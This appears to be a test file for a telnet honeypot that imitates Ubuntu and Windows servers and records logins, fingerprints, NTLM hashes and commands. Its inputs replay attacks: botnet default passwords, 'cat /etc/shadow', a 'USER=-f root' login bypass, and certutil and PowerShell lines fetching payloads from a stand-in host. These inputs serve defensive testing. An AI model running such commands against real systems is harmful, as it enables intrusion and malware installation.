import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { conforms } from '../conformance.ts';
import { type Conversation, converse, TEST_NOW, TEST_SEED } from '../play.ts';
import { makePersona } from '../surfaces/personas.ts';
import { negotiate, OPTIONS, subnegotiate } from './codec.ts';
import { telnet } from './service.ts';

const FIXTURES = join(import.meta.dirname, 'fixtures');
const fixtures = (windows: boolean): Record<string, Buffer> =>
  Object.fromEntries(
    readdirSync(FIXTURES)
      .filter((name) => name.endsWith('.bin') && name.startsWith('windows-') === windows)
      .map((name) => [name, readFileSync(join(FIXTURES, name))]),
  );
const ubuntu = makePersona('ubuntu-server', TEST_SEED, TEST_NOW);
const windows = makePersona('windows-server', TEST_SEED, TEST_NOW);
const ALWAYS = { lure: { accept: 'always' } };
const PROMPT = `${ubuntu.hostName} login: `;
const BANNER = `${ubuntu.os.name} ${ubuntu.os.version}\r\n${PROMPT}`;
const OPENING = negotiate(['DO', 24], ['DO', 32], ['DO', 35], ['DO', 39]);
const REFUSAL = negotiate(['WONT', 24], ['WONT', 32], ['WONT', 35], ['WONT', 39]);

conforms(telnet, {
  ...fixtures(false),
  raw: 'root\r\nxc3511\r\nenable\r\nsh\r\n/bin/busybox ECCHI\r\n',
  lines: 'root\nadmin\nls -la\nexit\n',
});
conforms(
  telnet,
  {
    accepted:
      'root\r\nvizxv\r\nenable\r\nsystem\r\nsh\r\necho -ne "\\x7f\\x45" > /tmp/x; chmod 777 /tmp/x; cat /proc/mounts; /bin/busybox ECCHI\r\nsleep 5\r\nls\r\n',
  },
  { options: ALWAYS },
);
conforms(telnet, { ...fixtures(true), raw: 'administrator\r\npw\r\n' }, { persona: windows });
conforms(
  telnet,
  { ...fixtures(true), commands: 'administrator\r\npw\r\ndir\r\ncd \\\r\necho a>b.txt&type b.txt\r\nexit\r\n' },
  { persona: windows, options: ALWAYS },
);

const text = (bytes: string): Buffer => Buffer.from(bytes, 'latin1');
const attempts = (talk: Conversation): Record<string, unknown>[] =>
  talk.events.filter(({ type }) => type === 'auth.attempt').map(({ fields }) => fields);
const of = (talk: Conversation, type: string): Record<string, unknown>[] =>
  talk.events.filter((event) => event.type === type).map(({ fields }) => fields);
function since(talk: Conversation, action: () => void): string {
  const before = talk.sent.length;
  action();
  return talk.sent.slice(before);
}

test('the options go as netkit telnetd sends them to GNU telnet', () => {
  const talk = converse(telnet);
  assert.equal(talk.sent, OPENING);
  assert.equal(
    since(talk, () => talk.push(text('\xff\xfb\x18\xff\xfb\x20\xff\xfc\x23\xff\xfb\x27'))),
    subnegotiate(32, '\x01') + subnegotiate(39, '\x01') + subnegotiate(24, '\x01'),
  );
  assert.equal(
    since(talk, () =>
      talk.push(text(`${subnegotiate(32, '\x0038400,38400')}${subnegotiate(39, '\0')}${subnegotiate(24, '\0XTERM')}`)),
    ),
    negotiate(['WILL', 3], ['DO', 1], ['DO', 31], ['WILL', 5], ['DO', 33]),
  );
  assert.equal(
    since(talk, () =>
      talk.push(
        text('\xff\xfd\x03\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x05\xff\xfb\x21'),
      ),
    ),
    negotiate(['WILL', 1]),
  );
  assert.equal(
    since(talk, () => talk.advance(1)),
    BANNER,
  );
  assert.equal(
    since(talk, () => talk.push(text('\xff\xfd\x01'))),
    '',
  );
  const seen = of(talk, 'peer.fingerprint').map(({ kind, value }) => `${kind} ${value}`);
  assert.deepEqual(seen.slice(0, 3), ['telnet_speed 38400,38400', 'telnet_terminal XTERM', 'telnet_window 80x24']);
});

test('a refused login is recorded and worded as login words it, five times', () => {
  const talk = converse(telnet);
  talk.push(text(REFUSAL));
  talk.push(text('\xff\xfc\x01'));
  talk.advance(1);
  for (let count = 1; count <= 5; count += 1) {
    assert.equal(
      since(talk, () => talk.push('root\r\n')),
      'root\r\nPassword: ',
    );
    assert.equal(
      since(talk, () => talk.push(`pass${count}\r\n`)),
      `\r\n\r\nLogin incorrect\r\n${count === 5 ? 'Maximum number of tries exceeded (5)\r\n' : PROMPT}`,
    );
  }
  assert.equal(talk.closed, 'service_closed');
  assert.deepEqual(
    attempts(talk),
    [1, 2, 3, 4, 5].map((count) => ({
      username: 'root',
      password: `pass${count}`,
      mechanism: 'plain',
      accepted: false,
    })),
  );
});

test('a client that never negotiates gets its prompt after the patience, one that sends at once without it', () => {
  const silent = converse(telnet);
  silent.advance(299);
  assert.equal(silent.sent, OPENING);
  silent.advance(1);
  assert.equal(silent.sent, OPENING + BANNER);
  const early = converse(telnet);
  early.push('admin\r\nadmin\r\n');
  assert.deepEqual(attempts(early), [{ username: 'admin', password: 'admin', mechanism: 'plain', accepted: false }]);
});

test('line ends may be CR LF, CR NUL, CR or LF, also across reads', () => {
  const talk = converse(telnet);
  for (const piece of ['a\r', '\nb\r', '\0', 'c\r', 'd\n', 'e\r\n', 'f\n']) talk.push(piece);
  assert.deepEqual(
    attempts(talk).map(({ username, password }) => [username, password]),
    [
      ['a', 'b'],
      ['c', 'd'],
      ['e', 'f'],
    ],
  );
});

test('the password is not echoed, and the line can be edited', () => {
  const talk = converse(telnet);
  talk.push('rooo\x7ft\x1b\x15root\r');
  assert.equal(talk.sent, `${OPENING}${BANNER}rooo\b \bt^[${'\b \b'.repeat(6)}root\r\nPassword: `);
  assert.equal(
    since(talk, () => talk.push('secreet\x7f\x7ft')),
    '',
  );
  talk.push('\r');
  assert.deepEqual(attempts(talk)[0], {
    username: 'root',
    password: 'secret',
    mechanism: 'plain',
    accepted: false,
  });
});

test('the end of input is a failed attempt without a record, and ^C flushes', () => {
  const talk = converse(telnet);
  talk.push('x\x03');
  assert.ok(talk.sent.endsWith('x\xff\xf2^C'));
  assert.equal(
    since(talk, () => talk.push('\x04')),
    `\r\n\r\nLogin incorrect\r\n${PROMPT}`,
  );
  assert.deepEqual(attempts(talk), []);
});

test('the time to log in ends', () => {
  const talk = converse(telnet);
  talk.advance(300);
  assert.equal(
    since(talk, () => talk.advance(60_000)),
    '\r\nLogin timed out after 60 seconds.\r\n',
  );
  assert.equal(talk.closed, 'service_closed');
});

test('a delay after a failure holds the answer and what is typed meanwhile', () => {
  const talk = converse(telnet, { options: { failDelayMs: 3000 } });
  talk.push('root\r\n');
  assert.equal(
    since(talk, () => talk.push('a\r\nroot\r\nb\r\n')),
    '\r\n',
  );
  assert.equal(
    since(talk, () => talk.advance(3000)),
    `\r\nLogin incorrect\r\n${PROMPT}root\r\nPassword: \r\n`,
  );
  assert.equal(attempts(talk).length, 2);
});

test('a name in the environment is asked only for its password', () => {
  const talk = converse(telnet);
  talk.push(text(negotiate(['WONT', 24], ['WONT', 32], ['WONT', 35], ['WILL', 39])));
  talk.push(text(subnegotiate(39, '\0\0USER\x01alice') + negotiate(['WONT', 1])));
  assert.equal(
    since(talk, () => talk.advance(1)),
    'Password: ',
  );
  talk.push('pw\r\n');
  assert.equal(attempts(talk)[0]?.username, 'alice');
  assert.deepEqual(of(talk, 'peer.fingerprint')[0], {
    kind: 'telnet_environment',
    value: 'USER=alice',
    detail: { variables: ['USER=alice'] },
  });
});

test('USER=-f root is recorded as the exploit it is, and lets in only where everybody is', () => {
  for (const accept of ['never', 'always'] as const) {
    const talk = converse(telnet, { options: { lure: { accept } } });
    talk.push(text(negotiate(['WONT', 24], ['WONT', 32], ['WONT', 35], ['WILL', 39])));
    talk.push(text(subnegotiate(39, '\0\0USER\x01-f root') + negotiate(['WONT', 1])));
    talk.advance(1);
    assert.equal(of(talk, 'exploit.matched')[0]?.cve, 'CVE-2026-24061');
    assert.deepEqual(attempts(talk), [
      { username: 'root', password: null, mechanism: 'login-option', accepted: accept === 'always' },
    ]);
    assert.ok(talk.sent.endsWith(accept === 'always' ? `root@${ubuntu.hostName}:~# ` : PROMPT));
  }
});

test('an option storm is answered without a loop', () => {
  const talk = converse(telnet);
  talk.push(text(REFUSAL));
  const answer = since(talk, () =>
    talk.push(
      text(
        negotiate(
          ['WILL', 200],
          ['DO', 201],
          ['WONT', 200],
          ['DONT', 201],
          ['DO', 3],
          ['DO', 3],
          ['DONT', 3],
          ['DONT', 3],
        ),
      ),
    ),
  );
  assert.equal(answer, negotiate(['DONT', 200], ['WONT', 201], ['WONT', 3]));
});

test('a listed login is let in, by the whole way to the prompt', () => {
  const talk = converse(telnet, {
    options: { lure: { accept: 'list', logins: [{ username: 'root', password: 'xc3511' }] } },
  });
  talk.push('root\r\nwrong\r\n');
  const screen = since(talk, () => talk.push('root\r\nxc3511\r\n'));
  assert.match(screen, new RegExp(`Welcome to ${ubuntu.os.name} .*\\(GNU/Linux ${ubuntu.kernel} x86_64\\)`));
  assert.ok(screen.endsWith(`root@${ubuntu.hostName}:~# `));
  assert.deepEqual(
    attempts(talk).map(({ accepted }) => accepted),
    [false, true],
  );
  assert.ok(since(talk, () => talk.push('exit\r\n')).endsWith('exit\r\nlogout\r\n'));
  assert.equal(talk.closed, 'service_closed');
  assert.deepEqual(of(talk, 'command.input'), [{ command: 'exit' }]);
});

test('bytes that are no text are recorded escaped and never lost', () => {
  const talk = converse(telnet);
  talk.push(text('\xc3\x28r\r\n\xff\xff\x80\r\n'));
  assert.deepEqual(attempts(talk)[0], {
    username: '\\xc3(r',
    password: '\\xff\\x80',
    mechanism: 'plain',
    accepted: false,
  });
  talk.push(text(`${'\x80'.repeat(4095)}\r\nx\r\n`));
  assert.equal(String(attempts(talk)[1]?.username).length, 4096);
  assert.ok(of(talk, 'limit.reached').length > 0);
});

test('two machines differ in what they show', () => {
  const screens = [1, 2, 3].map((fill) => {
    const persona = makePersona('ubuntu-server', Buffer.alloc(32, fill), TEST_NOW);
    const talk = converse(telnet, { persona, options: ALWAYS });
    talk.push('root\r\nx\r\nuname -a; cat /etc/shadow; ifconfig; cat /proc/cmdline; ps aux\r\n');
    return talk.sent;
  });
  assert.equal(new Set(screens).size, 3);
});

test('the Microsoft service words its refusals, and hangs up after the third', () => {
  const talk = converse(telnet, { persona: windows });
  assert.equal(
    talk.sent,
    negotiate(['DO', 37], ['WILL', 1], ['WILL', 3], ['DO', 39], ['DO', 31], ['DO', 0], ['WILL', 0]),
  );
  talk.push(text(negotiate(['WONT', 37], ['DO', 1], ['DO', 3])));
  assert.equal(
    since(talk, () => talk.advance(1)),
    'Welcome to Microsoft Telnet Service \r\n\n\rlogin: ',
  );
  assert.equal(
    since(talk, () => talk.push('administrator\r\n')),
    'administrator\n\rpassword: ',
  );
  const refused = '\r\nThe handle is invalid.\r\n\r\nLogin Failed\r\n';
  assert.equal(
    since(talk, () => talk.push('pw\r\n')),
    `${refused}\n\rlogin: `,
  );
  talk.push('a\r\nb\r\n');
  assert.ok(
    since(talk, () => talk.push('c\r\nd\r\n')).endsWith(`${refused}\r\nTelnet Server has closed the connection\r\n`),
  );
  assert.equal(talk.closed, 'service_closed');
  assert.equal(attempts(talk).length, 3);
});

test('nmap learns the machine by NTLM, and an NTLM login leaves its hash', () => {
  const talk = converse(telnet, { persona: windows });
  talk.push(readFileSync(join(FIXTURES, 'nmap-telnet-ntlm-info.bin')));
  const challenge = talk.sent.slice(talk.sent.indexOf('\xff\xfa%'));
  assert.ok(challenge.startsWith('\xff\xfa%\x02\x0f\0\x01'));
  assert.equal(challenge.indexOf('NTLMSSP\0\x02'), 15);
  // MS-NLMP: AUTHENTICATE with user "bob" in Unicode and a version 1 response of 24 bytes.
  const user = Buffer.from('bob', 'utf16le');
  const message = Buffer.alloc(64 + user.length + 48, 1);
  message.write('NTLMSSP\0', 0, 'latin1');
  message.writeUInt32LE(3, 8);
  const field = (at: number, length: number, offset: number): void => {
    message.writeUInt16LE(length, at);
    message.writeUInt16LE(length, at + 2);
    message.writeUInt32LE(offset, at + 4);
  };
  field(12, 24, 70);
  field(20, 24, 94);
  field(28, 0, 64);
  field(36, user.length, 64);
  field(44, 0, 64);
  field(52, 0, 64);
  message.writeUInt32LE(0x201, 60);
  user.copy(message, 64);
  const head = Buffer.from([0, 15, 0, 2, 0, 0, 0, 0, 2, 0, 0, 0]);
  head.writeUInt32LE(message.length, 4);
  const answer = since(talk, () =>
    talk.push(text(subnegotiate(OPTIONS.AUTHENTICATION, Buffer.concat([head, message]).toString('latin1')))),
  );
  assert.equal(answer.slice(0, 9), subnegotiate(37, '\x02\x0f\0\x04'));
  assert.ok(
    answer.endsWith('Login using username and password\r\n\r\nWelcome to Microsoft Telnet Service \r\n\n\rlogin: '),
  );
  const [attempt] = attempts(talk);
  assert.deepEqual(
    [attempt?.username, attempt?.password, attempt?.mechanism, attempt?.hash_format],
    ['bob', null, 'ntlmssp', 'netntlmv1'],
  );
  assert.match(String(attempt?.hash), /^bob:::(01){24}:(01){24}:[0-9a-f]{16}$/);
});

test('after a Windows login commands answer, downloads are recorded and written files kept', () => {
  const talk = converse(telnet, { persona: windows, options: ALWAYS });
  talk.push('administrator\r\nx\r\n');
  assert.ok(talk.sent.endsWith('C:\\Users\\Administrator>'));
  const run = (line: string): string => since(talk, () => talk.push(`${line}\r\n`));
  assert.match(run('whoami'), new RegExp(`${windows.hostName.toLowerCase()}\\\\administrator\r\n`, 'i'));
  assert.match(
    run('nosuch'),
    /'nosuch' is not recognized as an internal or external command,\r\noperable program or batch file\.\r\n/,
  );
  assert.match(run('cd \\windows\\temp'), /C:\\Windows\\Temp>$/);
  run(
    'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe & powershell (New-Object Net.WebClient).DownloadString("http://203.0.113.9/b.ps1")',
  );
  assert.deepEqual(
    of(talk, 'file.requested').map(({ urls }) => urls),
    [['http://203.0.113.9/a.exe'], ['http://203.0.113.9/b.ps1']],
  );
  run('echo set x=1> run.bat');
  talk.push('exit\r\n');
  assert.deepEqual([...talk.artifacts.values()].map(String), ['set x=1\r\n']);
  assert.equal(talk.closed, 'service_closed');
});
